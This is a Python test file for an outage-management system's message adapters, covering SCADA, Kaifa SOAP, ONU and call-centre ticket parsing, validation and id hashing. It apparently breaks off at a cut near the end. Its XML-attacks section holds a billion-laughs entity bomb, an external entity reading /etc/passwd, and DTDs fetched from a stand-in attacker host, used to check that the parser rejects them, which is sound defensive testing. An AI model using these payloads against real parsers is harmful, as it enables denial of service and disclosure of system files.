"""The four native OMS adapters (DESIGN.md §4 "native source formats"): SCADA JSON, Kaifa
IEC 61968-9 SOAP, ONU alerts and call-centre tickets become canonical events; anything
malformed is one InvalidInput naming every bad field, and nothing else ever escapes."""

from __future__ import annotations

import doctest
import json
import math
import time
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from types import ModuleType
from xml.etree import ElementTree
from xml.sax.saxutils import escape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from opslens.errors import InvalidInput
from opslens.ingest import call_center, kaifa, oms_messages, onu, scada
from opslens.ingest.oms_messages import KINDS, MAX_BODY_BYTES, MAX_ID_LENGTH, SOURCES, digest

MESSAGES = Path(__file__).parent / "oms_messages"
ADAPTERS = {"scada": scada, "kaifa": kaifa, "onu": onu, "call_center": call_center}
JSON_ADAPTERS = (scada, onu, call_center)


def example(name: str) -> bytes:
    return (MESSAGES / name).read_bytes()


def errors_of(adapter: ModuleType, body: bytes | str, content_type: str | None = None
              ) -> list[dict]:
    body = body.encode() if isinstance(body, str) else body
    with pytest.raises(InvalidInput) as caught:
        adapter.parse(body, content_type)
    assert caught.value.status == 422
    assert caught.value.errors, "an InvalidInput must list its problems"
    return caught.value.errors


def soap(events_xml: str, header: str | None = None) -> bytes:
    """A SOAP 1.1 CreatedEndDeviceEvents message around some EndDeviceEvent elements."""
    header = header if header is not None else (
        "<m:Header><m:Verb>created</m:Verb><m:Noun>EndDeviceEvents</m:Noun>"
        "<m:Timestamp>2025-06-01T10:20:00Z</m:Timestamp></m:Header>")
    return (
        '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
        'xmlns:m="http://iec.ch/TC57/2011/schema/message" '
        'xmlns:e="http://iec.ch/TC57/2011/EndDeviceEvents#"><s:Body>'
        f"<m:CreatedEndDeviceEvents>{header}<m:Payload><e:EndDeviceEvents>{events_xml}"
        "</e:EndDeviceEvents></m:Payload></m:CreatedEndDeviceEvents></s:Body></s:Envelope>"
    ).encode()


def end_device_event(meter: str = "KFM-1", code: str = "3.26.0.85",
                     created: str = "2025-06-01T10:15:02Z") -> str:
    return (f"<e:EndDeviceEvent><e:createdDateTime>{created}</e:createdDateTime>"
            f"<e:Assets><e:mRID>{meter}</e:mRID></e:Assets>"
            f'<e:EndDeviceEventType ref="{code}"/></e:EndDeviceEvent>')


def assert_canonical(events: list[dict]) -> None:
    """The shape every adapter promises (the shared definition of a canonical event)."""
    for event in events:
        assert list(event) == ["id", "source", "kind", "device_id", "customer_id", "latitude",
                               "longitude", "occurred_at", "received_at", "detail"]
        assert isinstance(event["id"], str) and 0 < len(event["id"]) <= MAX_ID_LENGTH
        assert event["source"] in SOURCES and event["kind"] in KINDS
        for key in ("device_id", "customer_id"):
            assert event[key] is None or 0 < len(event[key]) <= MAX_ID_LENGTH
        assert datetime.fromisoformat(event["occurred_at"]).utcoffset() == timedelta(0)
        if event["latitude"] is not None:
            assert -90 <= event["latitude"] <= 90 and -180 <= event["longitude"] <= 180
        json.dumps(event["detail"], allow_nan=False)  # storable as JSON text
    assert len({e["id"] for e in events}) == len(events)


# ---- worked examples: one per format, exact canonical output ------------------------------------

def test_scada_wrapped_event():
    # the id is a hash of (type, breaker, feeder, substation, UTC time); pinned because
    # changing it would stop re-sent messages from being recognized as duplicates
    identity = digest("MV_AlarmLossOfVoltage", None, "F-12-03", "SS-12", "2025-06-01T10:15:00Z")
    assert identity == "5a5e4e1137f6459843a6b1b2"
    assert scada.parse(example("scada_event.json"), "application/json") == [{
        "id": "scada:5a5e4e1137f6459843a6b1b2", "source": "scada", "kind": "breaker_open",
        "device_id": "F-12-03", "customer_id": None, "latitude": 48.0114, "longitude": 7.8421,
        "occurred_at": "2025-06-01T10:15:00+00:00", "received_at": None,
        "detail": {"eventType": "MV_AlarmLossOfVoltage", "substationId": "SS-12",
                   "feederId": "F-12-03", "mainStationId": "MS-1", "alarmType": "voltage",
                   "voltage": 0.0, "severity": "critical",
                   "reason": "Feeder breaker tripped on overcurrent"}}]


def test_scada_ndjson_batch_maps_each_type_and_prefers_the_message_id():
    events = scada.parse(example("scada_events.ndjson"))
    assert [(e["kind"], e["device_id"], e["occurred_at"]) for e in events] == [
        ("breaker_open", "F-12-04", "2025-06-01T10:16:30+00:00"),
        ("alarm", "SS-12", "2025-06-01T10:16:29.250000+00:00"),  # no feeder: the substation
        ("breaker_close", "F-12-03", "2025-06-01T10:58:00+00:00"),
    ]
    assert events[0]["id"] == "scada:" + digest("BreakerTrip", None, "F-12-04", "SS-12",
                                                "2025-06-01T10:16:30Z")
    assert events[2]["id"] == "scada:EV-99182"
    assert events[2]["detail"]["eventType"] == "MV_AlarmVoltageRestored"  # canonical spelling
    assert_canonical(events)


KAIFA_HEADER = {"message_id": "5f0c6a2e-3b1d-4c8e-9a77-2f6d1e0b9c41", "head_end": "KAIFA-HES"}


def test_kaifa_soap_1_1_message():
    assert kaifa.parse(example("kaifa_soap11.xml"), "text/xml; charset=utf-8") == [
        {"id": "kaifa:KFM-000731:3.26.0.85:2025-06-01T10:15:02Z", "source": "ami",
         "kind": "power_loss", "device_id": "KFM-000731", "customer_id": None,
         "latitude": None, "longitude": None, "occurred_at": "2025-06-01T10:15:02+00:00",
         "received_at": "2025-06-01T10:15:09+00:00",
         "detail": {"event_type": "3.26.0.85", "event_name": "Power.NA.Failed",
                    **KAIFA_HEADER, "event_mrid": "EVT-7000123", "reason": "Last gasp",
                    "severity": "critical", "issuerID": "KAIFA-HES",
                    "usage_point": "UP-000731", "details": {"phase": "A"}}},
        {"id": "kaifa:KFM-000732:3.26.38.85:2025-06-01T10:15:03Z", "source": "ami",
         "kind": "power_loss", "device_id": "KFM-000732", "customer_id": None,
         "latitude": None, "longitude": None, "occurred_at": "2025-06-01T10:15:03+00:00",
         "received_at": "2025-06-01T10:15:09+00:00",
         "detail": {"event_type": "3.26.38.85", "event_name": "Power.Voltage.Failed",
                    **KAIFA_HEADER, "event_mrid": "EVT-7000124"}},
        {"id": "kaifa:KFM-000731:3.26.0.216:2025-06-01T10:47:30Z", "source": "ami",
         "kind": "power_restored", "device_id": "KFM-000731", "customer_id": None,
         "latitude": None, "longitude": None, "occurred_at": "2025-06-01T10:47:30+00:00",
         "received_at": "2025-06-01T10:15:09+00:00",
         "detail": {"event_type": "3.26.0.216", "event_name": "Power.NA.Restored",
                    **KAIFA_HEADER, "event_mrid": "EVT-7000187"}},
    ]


def test_kaifa_soap_1_2_message_with_default_namespaces():
    assert kaifa.parse(example("kaifa_soap12.xml"), "application/soap+xml") == [
        {"id": "kaifa:KFM-001204:3.26.0.85:2025-06-01T10:19:41.500000Z", "source": "ami",
         "kind": "power_loss", "device_id": "KFM-001204", "customer_id": None,
         "latitude": None, "longitude": None,
         "occurred_at": "2025-06-01T10:19:41.500000+00:00",
         "received_at": "2025-06-01T10:20:00+00:00",
         "detail": {"event_type": "3.26.0.85", "event_name": "Power.NA.Failed",
                    "message_id": "8d3f2b10-7c55-4e0a-b1de-0a9f4c7e2d63",
                    "correlation_id": "8d3f2b10-7c55-4e0a-b1de-0a9f4c7e2d63",
                    "head_end": "KAIFA-HES"}}]


def test_onu_alerts():
    assert onu.parse(example("onu_alerts.json")) == [
        {"id": "onu:ONU-7781:ONU_LastGaspAlert:2025-06-01T10:15:03Z", "source": "onu",
         "kind": "power_loss", "device_id": "ONU-7781", "customer_id": None,
         "latitude": 48.0113, "longitude": 7.8421, "occurred_at": "2025-06-01T10:15:03+00:00",
         "received_at": None, "detail": {"oltId": "OLT-3", "ponPort": "1/1/4"}},
        {"id": "onu:ONU-7781:ONU_PowerRestored:2025-06-01T10:47:41Z", "source": "onu",
         "kind": "power_restored", "device_id": "ONU-7781", "customer_id": "C-100231",
         "latitude": 48.0113, "longitude": 7.8421, "occurred_at": "2025-06-01T10:47:41+00:00",
         "received_at": None, "detail": None},
    ]


def test_call_center_ticket():
    assert call_center.parse(example("call_center_ticket.json")) == [{
        "id": "call:T-20250601-0042", "source": "call_center", "kind": "ticket",
        "device_id": "KFM-000731", "customer_id": None, "latitude": 47.9961,
        "longitude": 7.8494, "occurred_at": "2025-06-01T10:21:00+00:00", "received_at": None,
        "detail": {"agent": "A-17", "customer": {"name": "M. Weber"},
                   "phone": "+49 761 555 0142",
                   "address": "Kaiser-Joseph-Str. 12, 79098 Freiburg",
                   "notes": "No power in the whole street since 12:10",
                   "reports_restoration": False}}]


def test_a_ticket_without_meter_or_position_is_still_valid():
    [event] = call_center.parse(b'{"ticketId": 5521, "timestamp": "2025-06-01T10:00:00Z"}')
    assert (event["id"], event["device_id"], event["latitude"]) == ("call:5521", None, None)
    assert event["detail"] == {"reports_restoration": False}


@pytest.mark.parametrize(("notes", "restored"), [
    ("Power back on since 14:10", True),
    ("Caller says it was resolved, thanks", True),
    ("Lights came back, power has come back", True),
    ("power NOT restored yet", False),
    ("still no power back in the street", False),
    ("No power since 10:00", False),
    ("", False),
])
def test_tickets_saying_power_is_back_are_flagged(notes, restored):
    [event] = call_center.parse(json.dumps(
        {"ticketId": "T1", "timestamp": "2025-06-01T10:00:00Z", "notes": notes}).encode())
    assert event["kind"] == "ticket"
    assert event["detail"]["reports_restoration"] is restored


# ---- the Kaifa envelope: SOAP versions, wrappers, codes -----------------------------------------

def test_kaifa_accepts_a_bare_message_and_bare_end_device_events():
    inner = end_device_event()
    bare_events = ('<EndDeviceEvents xmlns:e="urn:x">' + inner + "</EndDeviceEvents>").encode()
    wrapped = soap(f"<m:EventMessage>{inner}</m:EventMessage>")  # not a message layout
    [from_bare] = kaifa.parse(bare_events)
    assert from_bare["id"] == "kaifa:KFM-1:3.26.0.85:2025-06-01T10:15:02Z"
    assert from_bare["received_at"] is None  # no header, no delivery time
    assert errors_of(kaifa, wrapped)[0]["field"] == "EndDeviceEvents"


def test_kaifa_operation_wrapping_an_event_message():
    body = (b'<Envelope xmlns="http://www.w3.org/2003/05/soap-envelope"><Body>'
            b"<CreatedEndDeviceEvents><EventMessage><Header><Verb>created</Verb>"
            b"<Noun>EndDeviceEvents</Noun></Header><Payload><EndDeviceEvents>"
            + end_device_event().replace("e:", "").encode()
            + b"</EndDeviceEvents></Payload></EventMessage></CreatedEndDeviceEvents>"
            b"</Body></Envelope>")
    [event] = kaifa.parse(body)
    assert event["device_id"] == "KFM-1" and event["kind"] == "power_loss"


@pytest.mark.parametrize(("code", "kind", "normalized"), [
    ("3.26.0.85", "power_loss", "3.26.0.85"),
    ("3.26.0.47", "power_loss", "3.26.0.47"),
    ("3.26.0.185", "power_loss", "3.26.0.185"),
    ("0.26.38.85", "power_loss", "0.26.38.85"),
    ("3.26.38.47", "power_loss", "3.26.38.47"),
    ("3.26.0.216", "power_restored", "3.26.0.216"),
    ("3.26.0.49", "power_restored", "3.26.0.49"),
    ("0.26.38.49", "power_restored", "0.26.38.49"),
    ("03.26.000.216", "power_restored", "3.26.0.216"),
])
def test_kaifa_power_codes(code, kind, normalized):
    [event] = kaifa.parse(soap(end_device_event(code=code)))
    assert event["kind"] == kind and event["detail"]["event_type"] == normalized


def test_an_empty_end_device_events_is_no_events():
    assert kaifa.parse(soap("")) == []


# ---- batches: single, array, NDJSON -------------------------------------------------------------

ONU_A = {"type": "ONU_LastGaspAlert", "onuId": "ONU-1", "timestamp": "2025-06-01T10:00:00Z"}
ONU_B = {"type": "onu_power_restored", "onuId": "ONU-1", "timestamp": "2025-06-01T11:00:00Z"}


@pytest.mark.parametrize(("body", "content_type"), [
    (json.dumps([ONU_A, ONU_B]), "application/json"),
    (json.dumps(ONU_A) + "\n" + json.dumps(ONU_B) + "\n", None),  # NDJSON, told by shape
    (json.dumps(ONU_A) + "\r\n\r\n" + json.dumps(ONU_B), "application/x-ndjson"),
    ("\ufeff" + json.dumps([ONU_A, ONU_B]), None),  # a byte-order mark
])
def test_array_and_ndjson_give_the_same_events(body, content_type):
    events = onu.parse(body.encode(), content_type)
    assert [e["kind"] for e in events] == ["power_loss", "power_restored"]
    assert events == onu.parse(json.dumps([ONU_A, ONU_B]).encode())


def test_one_ndjson_line_with_the_ndjson_type_and_an_empty_array():
    assert len(onu.parse(json.dumps(ONU_A).encode(), "application/x-ndjson")) == 1
    assert onu.parse(b"[]") == []


def test_ndjson_lines_end_only_at_newlines():
    ticket = {**TICKET_OK, "notes": "line\u2028separator inside a string"}
    body = json.dumps(ticket, ensure_ascii=False) + "\n" + json.dumps({**ticket, "ticketId": 2})
    events = call_center.parse(body.encode(), "application/x-ndjson")
    assert [e["detail"]["notes"] for e in events] == [ticket["notes"]] * 2


def test_a_message_repeated_in_one_body_is_one_event():
    assert len(onu.parse(json.dumps([ONU_A, ONU_A, ONU_B]).encode())) == 2


# ---- malformed input names its field ------------------------------------------------------------

SCADA_OK = {"eventType": "BreakerTrip", "feederId": "F1", "timestamp": "2025-06-01T10:00:00Z"}
ONU_OK = ONU_A
TICKET_OK = {"ticketId": "T1", "timestamp": "2025-06-01T10:00:00Z"}


def with_(base: dict, **changes) -> str:
    message = {**base, **changes}
    return json.dumps({k: v for k, v in message.items() if v is not ...})


MALFORMED = [
    # (adapter, body, index, field, words in the reason)
    (scada, '{"eventType":', None, "body", "malformed JSON at line 1"),
    (scada, "42", 0, None, "must be a JSON object"),
    (scada, with_(SCADA_OK, eventType=...), 0, "eventType", "is required"),
    (scada, with_(SCADA_OK, eventType=7), 0, "eventType", "must be text, got number"),
    (scada, with_(SCADA_OK, eventType="BreakerExplode"), 0, "eventType",
     "known types: MV_AlarmLossOfVoltage"),
    (scada, json.dumps({"event": {**SCADA_OK, "timestamp": None}}), 0, "event.timestamp",
     "is required"),
    (scada, json.dumps({"event": []}), 0, "event", "must be a SCADA event object"),
    (scada, with_(SCADA_OK, timestamp="2025-06-01T10:00:00"), 0, "timestamp",
     "no UTC offset; the source must send UTC"),
    (scada, with_(SCADA_OK, timestamp="yesterday"), 0, "timestamp", "malformed timestamp"),
    (scada, with_(SCADA_OK, timestamp=1748772000), 0, "timestamp", "must be an ISO 8601 text"),
    (scada, with_(SCADA_OK, timestamp="2500-01-01T00:00:00Z"), 0, "timestamp", "out of range"),
    (scada, with_(SCADA_OK, feederId=...), 0, "feederId", "give feederId or substationId"),
    (scada, with_(SCADA_OK, feederId=["F1"]), 0, "feederId", "must be text, got array"),
    (scada, with_(SCADA_OK, feederId="F" * 65), 0, "feederId", "at most 64"),
    (scada, with_(SCADA_OK, voltage="high"), 0, "voltage", "must be a number"),
    (scada, with_(SCADA_OK, severity=True), 0, "severity", "text or an integer"),
    (scada, with_(SCADA_OK, coordinates={"lat": 91, "lng": 7}), 0, "coordinates.lat",
     "outside [-90, 90]"),
    (scada, with_(SCADA_OK, coordinates={"lat": 48, "lng": -181}), 0, "coordinates.lng",
     "outside [-180, 180]"),
    (scada, with_(SCADA_OK, coordinates={"lng": 7}), 0, "coordinates.lat",
     "is required with a longitude"),
    (scada, with_(SCADA_OK, coordinates={"lat": True, "lng": 7}), 0, "coordinates.lat",
     "must be a number, got boolean"),
    (scada, with_(SCADA_OK, coordinates="48.0,7.8"), 0, "coordinates", "must be an object"),
    (scada, json.dumps(SCADA_OK).replace("}", ', "voltage": NaN}'), None, "body",
     "NaN is not a JSON number"),
    (scada, json.dumps([SCADA_OK, {**SCADA_OK, "timestamp": "noon"}]), 1, "timestamp",
     "malformed"),
    (scada, json.dumps(SCADA_OK) + "\n{oops}\n", None, "body", "malformed NDJSON on line 2"),
    (onu, with_(ONU_OK, type="ONU_Reboot"), 0, "type", "known types: ONU_LastGaspAlert"),
    (onu, with_(ONU_OK, onuId=...), 0, "onuId", "is required"),
    (onu, with_(ONU_OK, onuId="  "), 0, "onuId", "is empty"),
    (onu, with_(ONU_OK, onuId="ONU\u00001"), 0, "onuId", "control characters"),
    (onu, with_(ONU_OK, location={"lat": 100, "lng": 7}), 0, "location.lat", "outside"),
    (onu, with_(ONU_OK, latitude=48.0), 0, "longitude", "is required with a latitude"),
    (onu, with_(ONU_OK, latitude=48.0, longitude=7.8, location={"lat": 48, "lng": 7}), 0,
     "location", "given twice"),
    (onu, with_(ONU_OK, latitude=float("inf"), longitude=7.8), None, "body",
     "Infinity is not a JSON number"),
    (onu, with_(ONU_OK, customerId={"id": 1}), 0, "customerId", "must be text, got object"),
    (call_center, with_(TICKET_OK, ticketId=...), 0, "ticketId", "is required"),
    (call_center, with_(TICKET_OK, timestamp="2025-06-01 10:00"), 0, "timestamp",
     "no UTC offset"),
    (call_center, with_(TICKET_OK, customer="Mrs Weber"), 0, "customer", "must be an object"),
    (call_center, with_(TICKET_OK, customer={"phone": 4976155501}), 0, "customer.phone",
     "must be text"),
    (call_center, with_(TICKET_OK, customer={"meterNumber": [1]}), 0, "customer.meterNumber",
     "must be text"),
    (call_center, with_(TICKET_OK, customer={"address": 12}), 0, "customer.address",
     "text or an object"),
    (call_center, with_(TICKET_OK, notes=["no power"]), 0, "notes", "must be text"),
    (call_center, with_(TICKET_OK, ticketId="\ud800"), None, "body", "unpaired surrogate"),
    (kaifa, "<Envelope><Body>", None, "body", "malformed XML"),
    (kaifa, "<Envelope><Header/></Envelope>", None, "Envelope.Body", "no Body"),
    (kaifa, "<Envelope><Body/></Envelope>", None, "Envelope.Body", "Body is empty"),
    (kaifa, "<Envelope><Body><Fault><faultcode>Server</faultcode><faultstring>HES busy"
            "</faultstring></Fault></Body></Envelope>", None, "Envelope.Body.Fault",
     "SOAP Fault (HES busy)"),
    (kaifa, "<Envelope><Body><CreatedEndDeviceEvents><Header/><X/></CreatedEndDeviceEvents>"
            "</Body></Envelope>", None, "Payload", "has no Payload"),
    (kaifa, "<CreatedEndDeviceEvents><Payload><Compressed>H4sI</Compressed></Payload>"
            "</CreatedEndDeviceEvents>", None, "Payload.Compressed", "uncompressed"),
    (kaifa, "<CreatedEndDeviceEvents><Payload><Readings/></Payload></CreatedEndDeviceEvents>",
     None, "Payload.EndDeviceEvents", "holds no EndDeviceEvents"),
    (kaifa, soap(end_device_event(), "<m:Header><m:Verb>deleted</m:Verb><m:Noun>"
                 "EndDeviceEvents</m:Noun></m:Header>"), None, "Header.Verb", "only 'created'"),
    (kaifa, soap(end_device_event(), "<m:Header><m:Verb>created</m:Verb><m:Noun>"
                 "MeterReadings</m:Noun></m:Header>"), None, "Header.Noun", "EndDeviceEvents"),
    (kaifa, soap(end_device_event(), "<m:Header><m:Verb>created</m:Verb></m:Header>"), None,
     "Header.Noun", "is required"),
    (kaifa, soap(end_device_event(), "<m:Header><m:Verb>created</m:Verb><m:Noun>"
                 "EndDeviceEvents</m:Noun><m:Timestamp>2025-06-01T10:20:00</m:Timestamp>"
                 "</m:Header>"), None, "Header.Timestamp", "no UTC offset"),
    (kaifa, soap(end_device_event() + end_device_event(created="2025-06-01T10:15:02")), 1,
     "EndDeviceEvent[1].createdDateTime", "no UTC offset"),
    (kaifa, soap(end_device_event(created="")), 0, "EndDeviceEvent[0].createdDateTime",
     "is required"),
    (kaifa, soap(end_device_event(code="3.12.141.212")), 0,
     "EndDeviceEvent[0].EndDeviceEventType.ref", "event type 3.12.141.212 is not a meter"),
    (kaifa, soap(end_device_event(code="4.26.0.85")), 0,  # a gas meter's power failure
     "EndDeviceEvent[0].EndDeviceEventType.ref", "accepted: 3.26.0.85"),
    (kaifa, soap(end_device_event(code="power-off")), 0,
     "EndDeviceEvent[0].EndDeviceEventType.ref", "four numbers"),
    (kaifa, soap(end_device_event().replace(' ref="3.26.0.85"', "")), 0,
     "EndDeviceEvent[0].EndDeviceEventType.ref", "is required"),
    (kaifa, soap(end_device_event(meter="")), 0, "EndDeviceEvent[0].Assets.mRID",
     "is required"),
    (kaifa, soap("<e:Event/>"), None, "EndDeviceEvents", "holds no EndDeviceEvent"),
]


@pytest.mark.parametrize(("adapter", "body", "index", "field", "words"), MALFORMED,
                         ids=[f"{case[0].__name__.rsplit('.', 1)[-1]}-{case[3]}-{n}"
                              for n, case in enumerate(MALFORMED)])
def test_malformed_input_names_its_field(adapter, body, index, field, words):
    errors = errors_of(adapter, body)
    assert {"index": index, "field": field} in [
        {"index": e["index"], "field": e["field"]} for e in errors], errors
    assert any(words in e["reason"] for e in errors if e["field"] == field), errors


@pytest.mark.parametrize("adapter", ADAPTERS.values())
@pytest.mark.parametrize("body", [b"", b"  \n\t"])
def test_an_empty_body_is_refused(adapter, body):
    assert errors_of(adapter, body) == [
        {"index": None, "field": "body", "reason": "the body is empty; send at least one "
                                                   "message"}]


@pytest.mark.parametrize(("adapter", "content_type"), [
    (scada, "text/csv"), (onu, "application/xml"), (call_center, "multipart/form-data"),
    (kaifa, "application/json"),
])
def test_a_content_type_of_another_format_is_refused(adapter, content_type):
    [error] = errors_of(adapter, b"{}", content_type)
    assert error["field"] == "content_type" and content_type in error["reason"]


@pytest.mark.parametrize("body", [
    b"\xff\xfe{}",  # not UTF-8
    b"[" * 100_000,  # nested past the parser's recursion limit
    b'{"ticketId": ' + b"7" * 5000 + b"}",  # past Python's integer digit limit
])
def test_pathological_json_is_refused_as_the_body(body):
    [error] = errors_of(call_center, body)
    assert error["field"] == "body"


def test_every_problem_of_every_message_is_listed_and_nothing_is_returned():
    body = json.dumps([SCADA_OK, {"eventType": "Nope", "timestamp": "noon"},
                       {**SCADA_OK, "voltage": "x"}]).encode()
    with pytest.raises(InvalidInput) as caught:
        scada.parse(body)
    assert [(e["index"], e["field"]) for e in caught.value.errors] == [
        (1, "eventType"), (1, "timestamp"), (1, "feederId"), (2, "voltage")]
    assert caught.value.message.startswith("4 problem(s) in the scada body, so nothing was "
                                           "ingested; fix them and send the whole body again.")
    assert "First: [1].eventType: unknown SCADA event type 'Nope'" in caught.value.message


def test_problems_are_capped_at_a_thousand_but_counted():
    body = "\n".join(json.dumps({**ONU_OK, "timestamp": "noon"}) for _ in range(1500))
    with pytest.raises(InvalidInput) as caught:
        onu.parse(body.encode())
    assert len(caught.value.errors) == 1000
    assert caught.value.message.startswith("1500 problem(s) in the onu body (the first 1000")


# ---- XML attacks and size -----------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Envelope><Body><EndDeviceEvents><EndDeviceEvent><mRID>&lol9;</mRID></EndDeviceEvent>
</EndDeviceEvents></Body></Envelope>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Envelope><Body><EndDeviceEvents><EndDeviceEvent><Assets><mRID>&xxe;</mRID></Assets>
</EndDeviceEvent></EndDeviceEvents></Body></Envelope>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Envelope SYSTEM "http://attacker.invalid/evil.dtd">
<Envelope><Body><EndDeviceEvents/></Body></Envelope>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE e [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<Envelope/>"""


@pytest.mark.parametrize("bomb", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD,
                                  PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd",
                              "parameter-entity"])
def test_xml_bombs_are_rejected_not_expanded(bomb):
    started = time.perf_counter()
    [error] = errors_of(kaifa, bomb, "text/xml")
    assert time.perf_counter() - started < 1.0  # refused up front, nothing expanded
    assert error["field"] == "body" and "DTD" in error["reason"]
    assert "root:" not in json.dumps(error) and "lol" not in error["reason"]


@pytest.mark.parametrize("adapter", ADAPTERS.values())
def test_a_body_over_ten_megabytes_is_refused_before_parsing(adapter):
    body = b"<" * (MAX_BODY_BYTES + 1)  # malformed too: the size must be reported first
    [error] = errors_of(adapter, body)
    assert error["field"] == "body" and "the limit is 10,485,760" in error["reason"]


def test_a_body_of_exactly_ten_megabytes_is_read():
    message = json.dumps(ONU_OK).encode()
    assert len(onu.parse(message + b" " * (MAX_BODY_BYTES - len(message)))) == 1
    xml = soap(end_device_event())
    assert len(kaifa.parse(xml + b" " * (MAX_BODY_BYTES - len(xml)))) == 1


# ---- deterministic ids --------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "adapter"), [
    ("scada_event.json", scada), ("scada_events.ndjson", scada),
    ("kaifa_soap11.xml", kaifa), ("kaifa_soap12.xml", kaifa),
    ("onu_alerts.json", onu), ("call_center_ticket.json", call_center),
])
def test_the_same_message_twice_gives_the_same_ids(name, adapter):
    first = adapter.parse(example(name))
    assert [e["id"] for e in adapter.parse(example(name))] == [e["id"] for e in first]
    assert_canonical(first)


def test_scada_ids_ignore_offset_spelling_and_key_order():
    a = scada.parse(json.dumps(SCADA_OK).encode())
    b = scada.parse(json.dumps({"timestamp": "2025-06-01T12:00:00+02:00", "feederId": " F1 ",
                                "eventType": "breaker_trip"}).encode())
    assert a[0]["id"] == b[0]["id"] and a[0]["occurred_at"] == b[0]["occurred_at"]
    other_feeder = scada.parse(json.dumps({**SCADA_OK, "feederId": "F2"}).encode())
    assert other_feeder[0]["id"] != a[0]["id"]


def test_kaifa_ids_come_from_meter_code_and_time_not_from_the_message():
    resent = example("kaifa_soap11.xml").replace(b"5f0c6a2e", b"00000000").replace(
        b"EVT-7000123", b"EVT-9999999")
    assert ([e["id"] for e in kaifa.parse(resent)]
            == [e["id"] for e in kaifa.parse(example("kaifa_soap11.xml"))])


def test_ids_too_long_for_the_store_are_hashed_deterministically():
    meter = "M" * 60
    [event] = kaifa.parse(soap(end_device_event(meter=meter)))
    assert event["id"].startswith("kaifa:#") and len(event["id"]) <= MAX_ID_LENGTH
    assert kaifa.parse(soap(end_device_event(meter=meter)))[0]["id"] == event["id"]
    assert event["device_id"] == meter


# ---- vocabularies and docs ----------------------------------------------------------------------

def test_the_scada_vocabulary_is_unambiguous_and_case_blind():
    keys = [oms_messages.vocabulary_key(name) for name in scada.EVENT_TYPES]
    assert len(set(keys)) == len(keys)
    assert set(scada.EVENT_TYPES.values()) == {"breaker_open", "breaker_close", "alarm"}
    for name, kind in scada.EVENT_TYPES.items():
        [event] = scada.parse(json.dumps({**SCADA_OK, "eventType": name.upper()}).encode())
        assert (event["kind"], event["detail"]["eventType"]) == (kind, name)


@pytest.mark.parametrize("module", [oms_messages, scada, kaifa, onu, call_center])
def test_docstring_examples_run(module):
    # pytest collects doctests only under src/opslens/domain, so these run here
    result = doctest.testmod(module, optionflags=doctest.ELLIPSIS)
    assert result.failed == 0


# ---- properties ---------------------------------------------------------------------------------

KEYS = st.sampled_from([
    "eventType", "event", "substationId", "feederId", "breakerId", "timestamp", "voltage",
    "severity", "reason", "coordinates", "location", "lat", "lng", "latitude", "longitude",
    "type", "onuId", "customerId", "ticketId", "customer", "phone", "meterNumber",
    "address", "notes", "id", "eventId"]) | st.text(max_size=6)
SCALARS = (st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=12)
           | st.sampled_from([
               "2025-06-01T10:00:00Z", "2025-06-01T10:00:00", "2025-06-01T10:00:00+14:00",
               "0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "BreakerTrip",
               "MV_AlarmVoltageRestored", "ONU_LastGaspAlert", "ONU_PowerRestored", "F1",
               "", " ", "x" * 70, 91, -181, 48.0, 7.8]))
FINITE = SCALARS.filter(lambda v: not isinstance(v, float) or math.isfinite(v))
JSON_VALUES = st.recursive(
    SCALARS, lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(KEYS, inner, max_size=7), max_leaves=25)


# valid messages with a few fields added or overwritten reach the per-field checks
NEAR_VALID = st.builds(
    lambda base, changes: {**base, **changes},
    st.sampled_from([SCADA_OK, {"event": SCADA_OK}, ONU_OK, TICKET_OK,
                     {**TICKET_OK, "customer": {"meterNumber": "M1", "phone": "+1 555"}}]),
    st.dictionaries(KEYS, JSON_VALUES, max_size=2))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=JSON_VALUES | NEAR_VALID | st.lists(NEAR_VALID, max_size=4),
       adapter=st.sampled_from(JSON_ADAPTERS), ndjson=st.booleans())
def test_any_json_gives_events_or_invalid_input_never_another_error(value, adapter, ndjson):
    items = value if ndjson and isinstance(value, list) and value else [value]
    body = ("\n".join(json.dumps(item) for item in items) if ndjson else json.dumps(value))
    try:
        events = adapter.parse(body.encode())
    except InvalidInput as exc:
        assert exc.errors and all(set(e) == {"index", "field", "reason"} for e in exc.errors)
        return
    assert_canonical(events)


VALID = {scada: (SCADA_OK, ("eventType", "timestamp", "feederId")),
         onu: (ONU_OK, ("type", "onuId", "timestamp")),
         call_center: (TICKET_OK, ("ticketId", "timestamp"))}
IDS = {"feederId", "onuId", "ticketId"}  # any text is a valid id; integers are read as text


@settings(max_examples=200, deadline=None)
